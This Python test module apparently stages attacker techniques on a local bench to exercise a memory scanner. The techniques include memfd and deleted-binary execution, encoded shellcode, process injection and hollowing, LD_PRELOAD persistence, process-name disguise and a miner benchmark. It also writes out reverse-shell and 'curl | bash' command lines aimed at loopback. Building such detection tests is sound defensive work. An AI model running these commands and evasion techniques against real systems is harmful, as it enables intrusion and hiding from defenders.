# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""How each technique of the table is started. A function has the technique's name, and returns when it is set up."""

from __future__ import annotations

import dataclasses
import http.server
import os
import pathlib
import re
import shutil
import socket
import stat
import subprocess
import threading
import time
import typing as t

from tests.integration.memory_scan._techniques import innocents, packages
from tests.integration.memory_scan._techniques.bench import PYTHON, Bench, BenchError, Started, wait_for

# 127.0.0.1:4660 as code.S has it in an address.
_PORT = b"\x02\x00\x12\x34"
_KEY = 0x5A
# How much room code needs, how much of a mapping is searched for it, and how many different bytes a page of code has.
_ROOM, _SEARCHED, _VARIED = 256, 1 << 22, 16
_PAGE = 4096
# What engines fill a place with where they have put no code yet.
_UNUSED = re.compile(rb"\0{300,}|\xcc{300,}", re.DOTALL)
_LOADER = os.path.realpath("/lib64/ld-linux-x86-64.so.2")


# Executed from memory, or gone


def memfd_program(bench: Bench) -> Started:
    return bench.run(bench.programs / "memory_file", "data", bench.programs / "wait", "wait")


def memfd_from_python(bench: Bench) -> Started:
    script = bench.programs / "memory_program.py"
    return bench.run(PYTHON, script, bench.programs / "wait", "/usr/lib/systemd/systemd-logind")


def deleted_program(bench: Bench) -> Started:
    program = _copy(bench, bench.scratch)
    started = bench.run(program)
    os.unlink(program)
    return started


def program_in_shared_memory(bench: Bench) -> Started:
    return bench.run(_copy(bench, _removed_directory(bench, "/dev/shm")))


def program_on_tmpfs(bench: Bench) -> Started:
    place = _mounted(bench)
    bench.resources.callback(_unmount, place)
    return bench.run(_copy(bench, place))


def program_on_detached_mount(bench: Bench) -> Started:
    """Unmount the file system while the program runs: its path leads nowhere, and nothing marks it as deleted."""
    place = _mounted(bench)
    try:
        return bench.run(_copy(bench, place))
    finally:
        _unmount(place)


def replaced_program(bench: Bench) -> Started:
    program = _copy(bench, bench.programs.directory, "service")
    started = bench.run(program)
    other = shutil.copy(bench.programs / "leash", bench.programs / "service.new")
    os.replace(other, program)
    bench.resources.callback(os.unlink, program)
    return started


def packaged_program_swapped(bench: Bench) -> Started:
    """Start another program in the place of a packaged one, and put that back."""
    packages.install(bench, packages.build(bench, "1"))
    # What is installed within these seconds may be what replaced it.
    time.sleep(3)
    program = pathlib.Path(packages.DAEMON)
    aside = program.rename(program.with_name("daemon.aside"))
    shutil.copy(bench.programs / "wait", program)
    started = bench.run(str(program))
    aside.replace(program)
    return started


def packaged_program_covered(bench: Bench) -> Started:
    """Mount a program over a packaged one, which keeps its path and its file."""
    packages.install(bench, packages.build(bench, "1"))
    subprocess.run(["mount", "--bind", bench.programs / "wait", packages.DAEMON], check=True)
    bench.resources.callback(_unmount, pathlib.Path(packages.DAEMON))
    return bench.run(packages.DAEMON)


def packaged_program_covered_for_itself(bench: Bench) -> Started:
    """Do the same where nobody else sees it, in a mount namespace of its own."""
    script = f"mount --bind {bench.programs / 'wait'} /usr/bin/logger && exec /usr/bin/logger"
    return bench.run("/usr/bin/unshare", "--mount", "/bin/sh", "-c", script)


def unlinked_descriptor(bench: Bench) -> Started:
    """Run a file that never had a name (O_TMPFILE)."""
    descriptor = os.open(bench.programs.directory, os.O_TMPFILE | os.O_RDWR, 0o700)
    try:
        os.write(descriptor, pathlib.Path(bench.programs / "wait").read_bytes())
        # What is open for writing can't be run.
        reading = os.open(f"/proc/self/fd/{descriptor}", os.O_RDONLY)
    finally:
        os.close(descriptor)
    try:
        return bench.run(f"/proc/self/fd/{reading}", name="wait", pass_fds=(reading,))
    finally:
        os.close(reading)


def script_in_memfd(bench: Bench) -> Started:
    script = "import signal; print('ready', flush=True); signal.pause()"
    return bench.run(PYTHON, bench.programs / "memory_script.py", PYTHON, script)


def script_in_memfd_as_input(bench: Bench) -> Started:
    """Have a shell read its commands from a memfd, as it would from a terminal."""
    memory = _memory_file(bench, b"echo ready; sleep 1000; true\n")
    return bench.run("/bin/bash", stdin=memory)


def script_from_the_network(bench: Bench) -> Started:
    """Do what "curl | sh" does, with a script that connects back."""
    port = _listener(bench)
    script = f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo ready port={port} pid=$$; sleep 1000; true\n".encode()
    address = _web_server(bench, script)
    return bench.run("/bin/sh", "-c", f"curl --silent {address}/install.sh | bash")


def script_of_a_process_substitution(bench: Bench) -> Started:
    """Do what "bash <(curl ...)" does."""
    address = _web_server(bench, b"echo ready pid=$$; sleep 1000; true\n")
    return bench.run("/bin/bash", "-c", f"bash <(curl --silent {address}/install.sh); true")


def loader_as_launcher(bench: Bench) -> Started:
    return bench.run(_LOADER, _copy(bench, bench.scratch))


def loader_and_memfd(bench: Bench) -> Started:
    memory = _memory_file(bench, pathlib.Path(bench.programs / "wait").read_bytes())
    return bench.run(_LOADER, f"/proc/self/fd/{memory}", pass_fds=(memory,))


# Code where none should be


def shellcode_rwx(bench: Bench) -> Started:
    return _placed(bench, "rwx", "sleep")


def shellcode_rx(bench: Bench) -> Started:
    return _placed(bench, "rx", "sleep")


def shellcode_shortest(bench: Bench) -> Started:
    return _placed(bench, "rx", "wait")


def shellcode_execute_only(bench: Bench) -> Started:
    return _placed(bench, "x", "sleep")


def shellcode_deep(bench: Bench) -> Started:
    return _placed(bench, "deep", "reverse", how="keep")


def shellcode_shared(bench: Bench) -> Started:
    return _placed(bench, "shared", "sleep")


def shellcode_as_dotnet(bench: Bench) -> Started:
    """Give it the place that code of .NET has: a file in memory that is called "doublemapper"."""
    return _placed(bench, "doublemapper", "reverse", how="keep")


def shellcode_of_system_v(bench: Bench) -> Started:
    return _placed(bench, "system-v", "sleep")


def shellcode_mapped_twice(bench: Bench) -> Started:
    return _placed(bench, "twice", "sleep")


def shellcode_on_the_stack(bench: Bench) -> Started:
    return bench.run(bench.programs / "place-execstack", "stack", bench.programs / "sleep.bin", "run")


def shellcode_on_the_heap(bench: Bench) -> Started:
    return _placed(bench, "heap", "sleep")


def shellcode_encoded(bench: Bench) -> Started:
    """Run a decoder, which stands before what it has decoded."""
    return _placed(bench, "rwx", bench.code("encoded.bin", _encoded(bench, "sleep")))


def shellcode_still_encoded(bench: Bench) -> Started:
    return _placed(bench, "rwx", bench.code("still.bin", _encoded(bench, "reverse")), how="keep")


def shellcode_reverse_shell(bench: Bench) -> Started:
    return _placed(bench, "rwx", "reverse", how="keep")


def shellcode_bind_shell(bench: Bench) -> Started:
    """Run it: it listens on loopback for somebody who never comes."""
    port = _free_port()
    code = bench.code("bind-here.bin", _with_port(bench, "bind", port))
    started = _placed(bench, "rx", code)
    wait_for(lambda: _listens(port), "the shellcode to listen")
    return _with_facts(started, port=str(port))


def egg_hunter(bench: Bench) -> Started:
    code, egg = bench.programs / "hunter.bin", bench.programs / "egg.bin"
    return bench.run(bench.programs / "place", "rwx", code, "keep", egg)


def reverse_shell_running(bench: Bench) -> Started:
    """Run shellcode that becomes a shell on a connection to this test."""
    port = _listener(bench)
    code = bench.code("reverse-here.bin", _with_port(bench, "reverse", port))
    started = _placed(bench, "rwx", code)
    wait_for(lambda: _executable(started.pid) == os.path.realpath("/bin/sh"), "the shell")
    return _with_facts(started, port=str(port))


def reverse_shell_of_bash(bench: Bench) -> Started:
    port = _listener(bench)
    connect = f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
    started = bench.run("/bin/bash", "-c", f"echo ready port={port}; exec {connect}")
    wait_for(lambda: b"-i" in _arguments(started.pid), "the shell")
    return started


def reverse_shell_of_a_copy(bench: Bench) -> Started:
    """Do the same with a shell that is called otherwise."""
    port = _listener(bench)
    shell = shutil.copy("/bin/bash", bench.programs / "agent")
    connect = f"{shell} -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
    started = bench.run("/bin/bash", "-c", f"echo ready port={port}; exec {connect}")
    wait_for(lambda: _executable(started.pid) == shell, "the shell")
    return started


def shellcode_in_python(bench: Bench) -> Started:
    return bench.run(PYTHON, bench.programs / "memory_code.py", bench.programs / "sleep.bin")


def shellcode_in_namesake(bench: Bench) -> Started:
    """Run it in a program that is called as an engine is, and isn't it."""
    place = bench.programs.directory / "engine"
    place.mkdir()
    bench.resources.callback(shutil.rmtree, place)
    program = shutil.copy(bench.programs / "place", place / "node")
    return bench.run(str(program), "rwx", bench.programs / "sleep.bin", "run")


def main_thread_ended(bench: Bench) -> Started:
    """Run it in a thread of a process whose first thread has ended: /proc/PID shows no memory of such a one."""
    started = bench.run(bench.programs / "thread", bench.programs / "sleep.bin")
    wait_for(lambda: "State:\tZ" in _status(started.pid), "the first thread to end")
    return started


def shellcode_of_dev_zero(bench: Bench) -> Started:
    return _mapped(bench, "/dev/zero")


def shellcode_of_a_device_of_its_own(bench: Bench) -> Started:
    """Give the device of zeros (1:5 of zero(4)) the name of a library."""
    node = bench.programs / "libz.so.1"
    os.mknod(node, stat.S_IFCHR | 0o644, os.makedev(1, 5))
    bench.resources.callback(os.unlink, node)
    return _mapped(bench, node)


def shellcode_of_a_block_device(bench: Bench) -> Started:
    """Keep the code on a disk that is mounted nowhere."""
    disk = bench.code("disk.img", bytes(1 << 20))
    device = subprocess.run(
        ["losetup", "--find", "--show", disk], check=True, capture_output=True, text=True
    ).stdout.strip()
    bench.resources.callback(subprocess.run, ["losetup", "--detach", device], check=True)
    return _mapped(bench, device, "shared")


def shellcode_of_a_users_file_system(bench: Bench) -> Started:
    """Write the code into a file that a program serves (FUSE), for the process alone."""
    place = bench.scratch / "served"
    place.mkdir()
    bench.run(PYTHON, bench.programs / "fuse_file.py", str(place))
    bench.resources.callback(_unmount, place)
    return _mapped(bench, str(place / "library"))


def own_program_unmapped(bench: Bench) -> Started:
    return _left(bench, "leave")


def static_program_unmapped(bench: Bench) -> Started:
    return _left(bench, "leave-static")


def another_program_as_decoy(bench: Bench) -> Started:
    return _left(bench, "leave-static", "decoy")


def another_program_as_forged_decoy(bench: Bench) -> Started:
    return _left(bench, "leave-static", "forged")


def program_of_another_link(bench: Bench) -> Started:
    """Run on as before, with the same code of the same file by another name, under the name of another program."""
    return _of_another_link(bench, "linked")


def program_of_another_link_and_whole_decoy(bench: Bench) -> Started:
    """Do the same with all of the other program in memory, its data written as the kernel does."""
    return _of_another_link(bench, "whole")


def _of_another_link(bench: Bench, how: str) -> Started:
    link = bench.programs / "update"
    os.link(bench.programs / "leave-static", link)
    bench.resources.callback(os.unlink, link)
    return bench.run(bench.programs / "leave-static", link, "/usr/bin/sleep", how)


def reflective_library(bench: Bench) -> Started:
    return bench.run(bench.programs / "reflective", "whole", bench.programs / "library.so")


def reflective_library_wiped(bench: Bench) -> Started:
    return bench.run(bench.programs / "reflective", "wiped", bench.programs / "library.so")


def file_mapping_private(bench: Bench) -> Started:
    return _in_file(bench, "private-file")


def file_mapping_shared(bench: Bench) -> Started:
    return _in_file(bench, "shared-file")


# Changed code


def inline_hook(bench: Bench) -> Started:
    return _changed(bench, "hook")


def got_overwritten(bench: Bench) -> Started:
    return _changed(bench, "got")


def own_text_patched(bench: Bench) -> Started:
    return _changed(bench, "text")


def vdso_patched(bench: Bench) -> Started:
    return _changed(bench, "vdso")


def hollowed_process(bench: Bench) -> Started:
    return bench.run(bench.programs / "inject", "hollow", bench.programs / "sleep.bin", "/usr/bin/sleep", "1000")


def injected_code(bench: Bench) -> Started:
    return _injected(bench, bench.sleep(), "run")


def code_that_calls_the_library(bench: Bench) -> Started:
    return calling(bench, bench.sleep(), "rx", "run")


def code_that_hides_while_it_sleeps(bench: Bench) -> Started:
    return calling(bench, bench.sleep(), "rx", "back")


def injected_into_node(bench: Bench) -> Started:
    return _injected(bench, innocents.node(bench), "keep", "reverse")


def injected_into_java(bench: Bench) -> Started:
    return _injected(bench, innocents.java(bench), "keep", "reverse")


def node_code_overwritten(bench: Bench) -> Started:
    return _overwritten(bench, innocents.node(bench), "reverse")


def java_code_overwritten(bench: Bench) -> Started:
    return _overwritten(bench, innocents.java(bench), "reverse")


def luajit_code_overwritten(bench: Bench) -> Started:
    return _overwritten(bench, innocents.luajit(bench), "reverse")


def attached_tracer(bench: Bench) -> Started:
    victim = bench.sleep()
    tracer = bench.run(bench.programs / "inject", "trace", str(victim.pid))
    return Started(victim.pid, {"tracer": str(tracer.tree[0])}, (*victim.tree, *tracer.tree))


def preloaded_library(bench: Bench) -> Started:
    library = shutil.copy(bench.programs / "library.so", bench.scratch / "libaudit.so")
    return bench.run("/usr/bin/sleep", "1000", environment={"LD_PRELOAD": str(library)}, speaks=False)


def preloaded_and_wiped(bench: Bench) -> Started:
    """Preload a library that removes LD_PRELOAD from the environment when it is loaded."""
    library = shutil.copy(bench.programs / "wiping.so", bench.scratch / "libutil.so")
    started = bench.run("/usr/bin/env", f"LD_PRELOAD={library}", "/usr/bin/sleep", "1000", speaks=False)
    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "sleep")
    return started


def audited_library(bench: Bench) -> Started:
    library = shutil.copy(bench.programs / "library.so", bench.scratch / "libaudit.so")
    return bench.run("/usr/bin/sleep", "1000", environment={"LD_AUDIT": str(library)}, speaks=False)


def preloaded_for_all(bench: Bench) -> Started:
    """Preload a library by the file of the dynamic loader, in a mount namespace of its own."""
    listed = bench.scratch / "preload"
    library = shutil.copy(bench.programs / "library.so", bench.programs / "libselinux.so")
    bench.resources.callback(os.unlink, library)
    listed.write_text(f"{library}\n")
    target = pathlib.Path("/etc/ld.so.preload")
    if not target.exists():
        # A place to mount over is needed; an empty file changes nothing.
        target.touch()
        bench.resources.callback(target.unlink)
    script = f"mount --bind {listed} {target} && exec setpriv --pdeathsig KILL /usr/bin/sleep 1000"
    started = bench.run("/usr/bin/unshare", "--mount", "/bin/sh", "-c", f"echo ready; {script}")
    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "sleep")
    return started


def library_from_memfd(bench: Bench) -> Started:
    return bench.run(bench.programs / "loaded", "memfd", bench.programs / "library.so")


def library_from_memfd_in_python(bench: Bench) -> Started:
    return bench.run(PYTHON, bench.programs / "memory_library.py", bench.programs / "library.so")


def library_deleted(bench: Bench) -> Started:
    library = shutil.copy(bench.programs / "library.so", bench.scratch / "plugin.so")
    return bench.run(bench.programs / "loaded", "deleted", str(library))


# Disguise


def library_on_detached_mount(bench: Bench) -> Started:
    place = _mounted(bench)
    library = shutil.copy(bench.programs / "library.so", place / "plugin.so")
    try:
        return bench.run(bench.programs / "loaded", "kept", str(library))
    finally:
        _unmount(place)


def kernel_thread_name(bench: Bench) -> Started:
    return bench.run(bench.programs / "wait", "kworker/0:1", name="[kworker/0:1]")


def kernel_thread_name_alone(bench: Bench) -> Started:
    """Have that name where top(1) shows it, and not at the command line."""
    return bench.run(bench.programs / "wait", "kworker/0:1")


def arguments_wiped(bench: Bench) -> Started:
    """Have no arguments, which has ps(1) show the name in brackets."""
    return bench.run(bench.programs / "wait", "rcu_tasks", "wiped")


def daemon_name(bench: Bench) -> Started:
    return bench.run(_copy(bench, bench.scratch), name="/usr/sbin/sshd")


def packet_socket_disguised(bench: Bench) -> Started:
    return bench.run(bench.programs / "privilege", "packet", "kworker/u8:2", name="[kworker/u8:2]")


def hidden_process(bench: Bench) -> Started:
    """Hide a process in a pid namespace with a /proc of its own, which is looked at as if it were the host."""
    host = namespace(bench)
    hidden = bench.run(*host.prefix, bench.programs / "wait")
    inside = _pid_inside(hidden.tree[-1])
    empty = bench.scratch / "empty"
    empty.mkdir()
    subprocess.run([*host.prefix, "/bin/mount", "--bind", str(empty), f"/proc/{inside}"], check=True)
    return Started(inside, {}, (), host.prefix)


# Privilege


def root_below_nobody(bench: Bench) -> Started:
    started = bench.run(bench.programs / "privilege", "parent", "/usr/bin/sleep", "1000")
    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "sleep")
    return started


def capabilities_kept(bench: Bench) -> Started:
    return bench.run(bench.programs / "privilege", "kept")


def bpf_program(bench: Bench) -> Started:
    return bench.run(bench.programs / "privilege", "bpf")


# Known things


def miner(bench: Bench) -> Started:
    return _mining(bench, "/usr/bin/xmrig", "/usr/bin/xmrig")


def miner_in_memory(bench: Bench) -> Started:
    return _mining(bench, bench.programs / "memory_file", "nginx", "/usr/bin/xmrig", "nginx: worker process")


# Containers


def memfd_in_namespaces(bench: Bench) -> Started:
    """Run a program from memory as root of new user, pid and mount namespaces, as in a container without root."""
    unshare = ("/usr/bin/unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount", "--kill-child=KILL")
    started = bench.run(*unshare, bench.programs / "memory_file", "data", bench.programs / "wait", "wait")
    return Started(started.tree[-1], started.facts, started.tree)


# What the starters share


def namespace(bench: Bench) -> Started:
    """Start a pid namespace with its own /proc and nothing in it but a program that waits: a host to look at whole."""
    unshare = ("/usr/bin/unshare", "--pid", "--fork", "--mount-proc", "--kill-child=KILL")
    started = bench.run(*unshare, bench.programs / "wait")
    enter = ("/usr/bin/nsenter", f"--target={started.tree[-1]}", "--pid", "--mount", "--")
    return Started(started.tree[-1], started.facts, started.tree, enter)


def _with_facts(started: Started, **facts: str) -> Started:
    return dataclasses.replace(started, facts={**started.facts, **facts})


def _copy(bench: Bench, directory: str | os.PathLike[str], name: str = "update") -> str:
    return str(shutil.copy(bench.programs / "wait", os.path.join(directory, name)))


def _mounted(bench: Bench) -> pathlib.Path:
    """Return a directory that a file system in memory was mounted on."""
    place = bench.programs.directory / "mounted"
    place.mkdir()
    bench.resources.callback(place.rmdir)
    subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0755", "tmpfs", str(place)], check=True)
    return place


def _unmount(place: pathlib.Path) -> None:
    subprocess.run(["umount", "--lazy", str(place)], check=True)


def _memory_file(bench: Bench, content: bytes) -> int:
    """Return a descriptor of a file in memory, which is closed when the technique is ended."""
    memory = os.memfd_create("data")
    bench.resources.callback(os.close, memory)
    os.write(memory, content)
    os.lseek(memory, 0, os.SEEK_SET)
    return memory


def _removed_directory(bench: Bench, parent: str) -> str:
    directory = os.path.join(parent, f"bulwark-techniques-{os.getpid()}")
    os.mkdir(directory)
    bench.resources.callback(shutil.rmtree, directory)
    return directory


def _placed(bench: Bench, place: str, code: str, how: str = "run") -> Started:
    """Have code in a place. code: a name of code.S, or the path of a file."""
    file = code if code.startswith("/") else bench.programs / f"{code}.bin"
    return bench.run(bench.programs / "place", place, file, how)


def _mapped(bench: Bench, file: str, how: str = "private") -> Started:
    return bench.run(bench.programs / "mapped", file, how, bench.programs / "sleep.bin")


def _left(bench: Bench, program: str, *more: str) -> Started:
    started = bench.run(bench.programs / program, bench.programs / "leave.bin", "/usr/bin/sleep", *more)
    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "it to pass for sleep")
    return started


def _in_file(bench: Bench, place: str) -> Started:
    code = pathlib.Path(bench.programs / "sleep.bin").read_bytes()
    return _placed(bench, place, bench.code("cache.dat", code.ljust(8192, b"\0")))


def _changed(bench: Bench, what: str) -> Started:
    return bench.run(bench.programs / "changed", what, bench.programs / "wait.bin")


def calling(bench: Bench, victim: Started, memory: str, how: str) -> Started:
    """Put code into a program that makes no system call itself, but calls the C library; see inject.c."""
    injector = bench.run(bench.programs / "inject", "call", str(victim.pid), memory, how)
    return Started(victim.pid, injector.facts, victim.tree)


def _injected(bench: Bench, victim: Started, how: str, code: str = "sleep") -> Started:
    injector = bench.run(bench.programs / "inject", how, str(victim.pid), bench.programs / f"{code}.bin")
    return Started(victim.pid, injector.facts, victim.tree)


def _overwritten(bench: Bench, victim: Started, code: str) -> Started:
    """Put code into what an engine has generated, which is as executable as before."""
    address = _generated(victim.pid)
    file = bench.programs / f"{code}.bin"
    injector = bench.run(bench.programs / "inject", "over", str(victim.pid), f"{address:x}", file)
    return Started(victim.pid, injector.facts, victim.tree)


def _generated(pid: int) -> int:
    """Return an address among the code that an engine has generated where none of that is: the process goes on."""
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in pathlib.Path(f"/proc/{pid}/maps").read_text(encoding="utf-8").splitlines():
            words = line.split()
            if "x" not in words[1] or words[4] != "0" or len(words) > 5:
                continue
            start, end = (int(word, 16) for word in words[0].split("-"))
            for page in range(start, min(end, start + _SEARCHED), _PAGE):
                memory.seek(page)
                content = memory.read(_PAGE)
                unused = _UNUSED.search(content)
                if unused is not None and len(set(content)) > _VARIED:
                    return page + unused.end() - _ROOM
    raise BenchError(f"process {pid} has no room beside generated code")


def _encoded(bench: Bench, code: str) -> bytes:
    """Return code behind the decoder, which knows its length and the key."""
    plain = pathlib.Path(bench.programs / f"{code}.bin").read_bytes()
    decoder = pathlib.Path(bench.programs / "decoder.bin").read_bytes()
    length = bytes([0x6A, len(plain)])
    key = bytes([0x80, 0x36, _KEY])
    return decoder.replace(b"\x6a\x11", length).replace(b"\x80\x36\x22", key) + bytes(byte ^ _KEY for byte in plain)


def _with_port(bench: Bench, code: str, port: int) -> bytes:
    plain = pathlib.Path(bench.programs / f"{code}.bin").read_bytes()
    return plain.replace(_PORT, _PORT[:2] + port.to_bytes(2, "big"))


def _mining(bench: Bench, *command: str) -> Started:
    """Have Debian's miner compute its own benchmark, without a connection, and change nothing of the kernel for it."""
    modest = ("--no-huge-pages", "--randomx-wrmsr=-1", "--randomx-no-rdmsr")
    started = bench.run(*command, "--bench=250K", "--threads=1", "--no-color", *modest, speaks=False)
    # It has its cache of 256 MiB, and begins to fill 2 GB from it with code that it has generated.
    wait_for(lambda: _resident(started.pid) > 280 << 20, "the miner to begin", 60)
    return started


def _resident(pid: int) -> int:
    pages = pathlib.Path(f"/proc/{pid}/statm").read_text(encoding="ascii").split()[1]
    return int(pages) * os.sysconf("SC_PAGESIZE")


def _executable(pid: int) -> str:
    return os.readlink(f"/proc/{pid}/exe")


def _arguments(pid: int) -> list[bytes]:
    return pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")


def _status(pid: int) -> str:
    return pathlib.Path(f"/proc/{pid}/status").read_text(encoding="utf-8", errors="replace")


def _pid_inside(pid: int) -> int:
    (line,) = [line for line in _status(pid).splitlines() if line.startswith("NSpid:")]
    return int(line.split()[-1])


def _listener(bench: Bench) -> int:
    """Listen on loopback, and keep what connects, until the technique is ended."""
    listening = socket.create_server(("127.0.0.1", 0))
    bench.resources.callback(listening.close)
    return int(listening.getsockname()[1])


def _free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        return int(taken.getsockname()[1])


def _listens(port: int) -> bool:
    wanted = f"0100007F:{port:04X} 00000000:0000 0A"
    return wanted in pathlib.Path("/proc/net/tcp").read_text(encoding="ascii")


def _web_server(bench: Bench, content: bytes) -> str:
    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_arguments: t.Any) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    bench.resources.callback(server.server_close)
    bench.resources.callback(server.shutdown)
    return f"http://127.0.0.1:{server.server_address[1]}"
